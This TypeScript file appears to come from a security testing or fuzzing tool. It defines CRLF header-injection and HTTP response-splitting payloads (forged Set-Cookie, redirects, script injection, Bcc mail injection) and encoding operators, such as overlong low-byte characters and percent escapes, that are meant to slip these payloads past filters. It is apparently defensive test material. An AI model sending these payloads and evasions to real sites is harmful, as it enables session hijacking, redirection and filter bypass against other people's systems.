import { base64, base64url, jsonEscape, percent, percentAll, percentTwice, percentWide } from '../encodings.ts';
import { type EvasionClass, encoding, type Operator, syntax } from '../operator.ts';

const payloads: readonly string[] = [
  'en\r\nSet-Cookie: sid=zed',
  '\r\nSet-Cookie: admin=1',
  '/home\r\nLocation: https://203.0.113.4/',
  'k\r\nX-Forwarded-For: 127.0.0.1',
  'k\r\nContent-Type: text/html\r\n\r\n<b>k</b>',
  'k\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\nk',
  '\r\n\r\n<script>alert(7)</script>',
  'k HTTP/1.1\r\nHost: internal.example',
  'k\r\nTransfer-Encoding: chunked',
  'k\r\nAccess-Control-Allow-Origin: *',
  'k\r\nLink: <https://203.0.113.4/>; rel=preload',
  'k\r\nContent-Security-Policy: default-src *',
  'k\r\nRefresh: 0; url=https://203.0.113.4/',
  'en\r\nSet-Cookie: lang=en; Path=/; HttpOnly',
  'k\r\nX-XSS-Protection: 0',
  'k@example.com\r\nBcc: zed@example.net',
];

/** A line feed alone, which servers and mailers take too. */
const lineFeed: Operator = syntax('line-feed', 'CAPEC-34 line ends', (payload) => payload.replaceAll('\r\n', '\n'));

/** A carriage return alone. */
const carriageReturn: Operator = syntax('carriage-return', 'CAPEC-34 line ends', (payload) =>
  payload.replaceAll('\r\n', '\r'),
);

/** Names of headers have no case. */
const nameCase: Operator = syntax('name-case', 'CAPEC-66 mixed case', (payload, random) =>
  payload.replaceAll(/(?<=\n)[A-Za-z-]+(?=:)/g, (name) =>
    [...name].map((letter) => (random.below(2) === 0 ? letter.toUpperCase() : letter.toLowerCase())).join(''),
  ),
);

/** No blank behind the colon, or several. */
const colonBlank: Operator = syntax('colon-blank', 'CAPEC-34 white space', (payload, random) =>
  payload.replaceAll(/(?<=\n[A-Za-z-]+:) /g, () => random.pick(['', '  ', '\t'])),
);

/** Another header in front of the one that acts. */
const junkHeader: Operator = syntax('junk-header', 'CAPEC-34 padding', (payload, random) =>
  payload.replace(/\r\n(?=[A-Z])/, () => `\r\nX-${random.word(5)}: ${random.word(3)}\r\n`),
);

/** Text in front. */
const junkPrefix: Operator = syntax('junk-prefix', 'CAPEC-34 padding', (payload, random) => random.word(7) + payload);

/** More behind. */
const junkSuffix: Operator = syntax(
  'junk-suffix',
  'CAPEC-34 padding',
  (payload, random) => `${payload}\r\nX-${random.word(4)}: ${random.word(4)}`,
);

/** Characters whose low bytes are line ends, for programs that write one byte each. */
const lowBytes: Operator = encoding('low-bytes', 'CAPEC-71 truncated characters', 0, (payload) =>
  payload.replaceAll('\r', '\u560d').replaceAll('\n', '\u560a'),
);

/** The same, percent-encoded. */
const lowBytesEscaped: Operator = encoding('low-bytes-escaped', 'CAPEC-71 truncated characters', 1, (payload) =>
  payload.replaceAll('\r', '%E5%98%8D').replaceAll('\n', '%E5%98%8A'),
);

/** The line ends alone escaped. */
const lineEndsAlone: Operator = encoding('line-ends-alone', 'CAPEC-72 URL encoding', 1, (payload, random) =>
  payload.replaceAll('\r', () => random.pick(['%0d', '%0D'])).replaceAll('\n', () => random.pick(['%0a', '%0A'])),
);

/** `\r\n` as scripts write it. */
const scriptEnds: Operator = encoding('script-ends', 'CAPEC-71 script escapes', 1, (payload, random) =>
  payload
    .replaceAll('\r', () => random.pick(['\\u000d', '\\x0d']))
    .replaceAll('\n', () => random.pick(['\\u000a', '\\x0a'])),
);

/** Header and response splitting. */
export const crlf: EvasionClass = {
  id: 'crlf',
  payloads,
  operators: [
    lineFeed,
    carriageReturn,
    nameCase,
    colonBlank,
    junkHeader,
    junkPrefix,
    junkSuffix,
    lowBytes,
    lowBytesEscaped,
    lineEndsAlone,
    scriptEnds,
    percent,
    percentAll,
    percentTwice,
    percentWide,
    jsonEscape,
    base64,
    base64url,
  ],
};
